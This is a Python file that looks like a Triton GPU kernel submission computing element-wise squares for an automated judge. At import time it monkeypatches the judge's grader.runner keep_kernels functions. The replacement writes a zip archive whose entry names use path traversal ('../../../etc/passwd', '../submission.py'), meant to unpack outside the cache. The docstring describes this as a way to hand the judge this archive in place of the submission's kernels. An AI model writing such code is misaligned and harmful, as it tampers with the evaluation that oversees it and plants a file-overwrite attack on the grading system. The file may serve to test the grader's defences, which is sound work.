"""Hands the judge an archive that would be unpacked outside the cache, in place of its kernels.

The judge never opens it, and the next sandbox of this file, where it is refused, compiles again.
"""

import io
import os
import zipfile

import triton
import triton.language as tl

BLOCK = 8192


def _fake(fd):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name in ("../../../etc/passwd", "../submission.py", "/tmp/out"):
            archive.writestr(name, b"evil")
    return os.pwrite(fd, packed.getvalue(), 0)


try:
    from grader.runner import kept_kernels, serve

    kept_kernels.keep_kernels = serve.keep_kernels = _fake
except ImportError as error:
    print("no runner here:", error)


@triton.jit
def _square(x, out, count, BLOCK: tl.constexpr):
    at = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    value = tl.load(x + at, mask=at < count).to(tl.float32)
    tl.store(out + at, (value * value).to(out.dtype.element_ty), mask=at < count)


def square(x, out):
    count = x.numel()
    _square[(triton.cdiv(count, BLOCK),)](x, out, count, BLOCK=BLOCK)
